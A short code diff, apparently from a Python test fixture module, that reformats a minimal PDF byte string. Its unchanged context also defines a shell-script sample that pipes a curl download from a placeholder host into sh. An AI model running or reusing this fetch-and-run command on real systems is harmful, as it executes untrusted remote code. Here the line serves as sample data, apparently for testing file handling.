@@ -7,7 +7,10 @@ import zlib
 
 from PIL import Image
 
-PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n%%EOF\n"
+PDF = (
+    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
+    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n%%EOF\n"
+)
 SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
 ORIENTATION, MAKE, GPS_INFO = 0x0112, 0x010F, 0x8825
 
